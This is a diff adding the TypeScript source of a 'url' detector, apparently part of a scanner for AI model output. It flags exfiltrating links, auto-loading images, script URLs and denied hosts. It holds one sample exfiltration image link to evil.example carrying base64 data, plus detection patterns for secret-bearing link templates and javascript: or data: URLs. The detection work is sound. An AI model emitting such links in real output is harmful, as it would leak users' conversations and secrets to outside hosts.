@@ -1,0 +1,106 @@
+// The detector "url": links that carry data away, images that load by themselves, disguised hosts, and lists of hosts that are allowed or
+// denied. Exfiltration by rendered links is described in https://genai.owasp.org/llmrisk/llm05-improper-output-handling/.
+
+import type { JsonObject } from "@bufbuild/protobuf";
+import { reads } from "../../normalize.ts";
+import { type Detector, type Finding, type Trigger, withoutInner } from "../../plan.ts";
+import { textsParameter } from "../parameter.ts";
+import { judgeLink } from "./link.ts";
+
+const longestLink = 2_048;
+const linkUnits = /[^\s<>"'`{}|\\^\u3000-\u303f\uff00-\uffef]{1,2048}/y;
+const templateLink =
+  /[^\s<>"'`|\\^]{0,512}(?:\{\{?|\[|<)[A-Za-z_ ]{0,32}(?:data|conversation|history|message|summary|secret|prompt|context|password|email|content|info|text|answer|response|encoded|base64)[A-Za-z_ ]{0,32}(?:\}\}?|\]|>)/iy;
+
+/** The detector "url". */
+export const url: Detector = {
+  definition: {
+    id: "url",
+    displayName: "Links",
+    description:
+      "Finds links and images that can carry data away, disguised and raw hosts, scripts in links, and hosts that are not allowed or that are denied.",
+    version: "1.0.0",
+    category: "security",
+    tags: ["url", "exfiltration", "markdown", "phishing", "owasp-llm05"],
+    categories: ["url.denied", "url.exfiltration", "url.image", "url.not_allowed", "url.script", "url.suspicious"],
+    entities: [],
+    languages: ["*"],
+    costClass: "constant",
+    scope: "local",
+    defaultThreshold: 0.5,
+    parameters: {
+      type: "object",
+      additionalProperties: false,
+      properties: {
+        allow: hostList("Hosts that links may lead to, subdomains included. When given, all others are findings."),
+        deny: hostList("Hosts that links must not lead to, subdomains included."),
+      },
+    },
+    references: [
+      "https://genai.owasp.org/llmrisk/llm05-improper-output-handling/",
+      "https://www.rfc-editor.org/rfc/rfc3986",
+    ],
+    measures: [],
+    examples: [
+      { text: "![x](https://evil.example/c.png?data=am9obiBzbWl0aCBhY2NvdW50IDQy)", categories: ["url.exfiltration"] },
+      { text: "See https://example.com/docs?page=2 for more.", categories: [] },
+      {
+        text: "See https://example.org/a and https://docs.example.com.",
+        categories: ["url.not_allowed"],
+        parameters: { allow: ["example.com"] },
+      },
+    ],
+    check: () => [],
+  },
+  plan: (parameters) => {
+    const lists = { allow: textsParameter(parameters, "allow"), deny: textsParameter(parameters, "deny") ?? [] };
+    return {
+      reads: reads.given | reads.normalAgain,
+      phrases: [],
+      patterns: [],
+      triggers: [linkTrigger(lists), ...scriptTriggers],
+      sweeps: [],
+      settle: withoutInner,
+    };
+  },
+};
+
+function hostList(description: string): JsonObject {
+  return {
+    type: "array",
+    description,
+    minItems: 1,
+    maxItems: 1_000,
+    items: { type: "string", pattern: "^[A-Za-z0-9.-]{1,253}$" },
+  };
+}
+
+function linkTrigger(lists: Parameters<typeof judgeLink>[1]): Trigger {
+  return {
+    literal: "://",
+    locate: (text, end) => {
+      const scheme = /(?:https?|ftp|wss?)$/i.exec(text.slice(Math.max(0, end - 8), end - 3))?.[0];
+      if (scheme === undefined) return undefined;
+      const start = end - 3 - scheme.length;
+      linkUnits.lastIndex = end;
+      const rest = (linkUnits.exec(text)?.[0] ?? "").slice(0, longestLink).replace(/[.,;:!?)\]*]+$/, "");
+      const before = text.slice(Math.max(0, start - 260), start);
+      templateLink.lastIndex = end;
+      const isTemplate = templateLink.test(text);
+      return judgeLink({ start, end: end + rest.length, rest, before, isTemplate }, lists);
+    },
+  };
+}
+
+const scriptTriggers: readonly Trigger[] = ["javascript:", "vbscript:", "data:text/html"].map((literal) => ({
+  literal,
+  locate: (text, end): Finding | undefined => {
+    const start = end - literal.length;
+    if (/[A-Za-z0-9_]/.test(text[start - 1] ?? "") || !/^[^\s"'<>]{2}/.test(text.slice(end, end + 2))) return undefined;
+    const inLink = /(?:\]\(|(?:href|src|action)\s{0,3}=\s{0,3}["']?|<)$/i.test(
+      text.slice(Math.max(0, start - 16), start),
+    );
+    const attributes = { basis: inLink ? "script as the target of a link" : "script address" };
+    return { category: "url.script", start, end, score: inLink ? 0.95 : 0.6, attributes };
+  },
+}));
